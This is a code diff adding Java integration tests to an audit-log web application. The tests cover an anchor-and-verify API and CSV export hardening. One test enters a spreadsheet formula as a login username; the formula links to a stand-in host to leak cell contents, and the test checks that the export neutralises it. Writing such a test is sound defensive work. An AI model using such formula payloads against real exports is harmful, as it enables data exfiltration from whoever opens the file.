@@ -119,6 +119,24 @@ class AuditWebIntegrationTests {
     }
 
     @Test
+    void anchorApi_writesTheHead_andVerifyReportsIt() throws Exception {
+        String anchored = mvc.perform(post("/api/v1/admin/audit/anchor").with(httpBasic("admin", "netra-demo")))
+                .andExpect(status().isOk())
+                .andExpect(jsonPath("$.sequence").isNumber())
+                .andExpect(jsonPath("$.mac").isString())
+                .andReturn().getResponse().getContentAsString();
+        long sequence = Long.parseLong(anchored.replaceAll(".*\"sequence\":(\\d+).*", "$1"));
+
+        mvc.perform(get("/api/v1/admin/audit/verify").with(httpBasic("admin", "netra-demo")))
+                .andExpect(jsonPath("$.intact").value(true))
+                .andExpect(jsonPath("$.anchoredSequence").value(sequence));
+        assertThat(page(get("/admin/audit/verify").with(httpBasic("admin", "netra-demo"))))
+                .contains("Cocok dengan jangkar terakhir di luar basis data: entri #" + sequence);
+        mvc.perform(post("/api/v1/admin/audit/anchor").with(httpBasic("analyst", "netra-demo")))
+                .andExpect(status().isForbidden());
+    }
+
+    @Test
     void csvExport_containsTheFilteredEntries_andIsItselfAudited() throws Exception {
         String actor = "csv-" + UUID.randomUUID().toString().substring(0, 8);
         String action = uniqueAction();
@@ -137,6 +155,29 @@ class AuditWebIntegrationTests {
         assertThat(lines[1]).contains(action, "report,r-9," + actor, "\"a \"\"quoted\"\", detail\"");
         assertThat(jdbc.sql("select count(*) from audit.entry where action = 'audit.exported' and actor = 'admin' "
                 + "and details like ?").param("%actor=" + actor + "%").query(Long.class).single()).isEqualTo(1);
+    }
+
+    @Test
+    void csvExport_defusesAFormulaTypedAsUsernameAtSignIn() throws Exception {
+        String typed = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"klik\")-" + UUID.randomUUID().toString()
+                .substring(0, 6);
+        mvc.perform(formLogin("/login").user(typed).password("salah"));
+
+        String csv = mvc.perform(get("/admin/audit/export").param("action", "identity.sign-in-failed")
+                        .with(httpBasic("admin", "netra-demo")))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
+
+        String row = csv.lines().filter(line -> line.contains(typed.substring(typed.length() - 6))).findFirst()
+                .orElseThrow();
+        assertThat(row).contains(",\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK(").doesNotContain(",=HYPERLINK(");
+    }
+
+    @Test
+    void csvCells_areDefusedReversibly() {
+        assertThat(AuditLogController.cell("=1+1")).isEqualTo("'=1+1");
+        assertThat(AuditLogController.cell("'=1+1")).isEqualTo("''=1+1");
+        assertThat(AuditLogController.cell("admin")).isEqualTo("admin");
+        assertThat(AuditLogController.cell(null)).isNull();
     }
 
     @Test
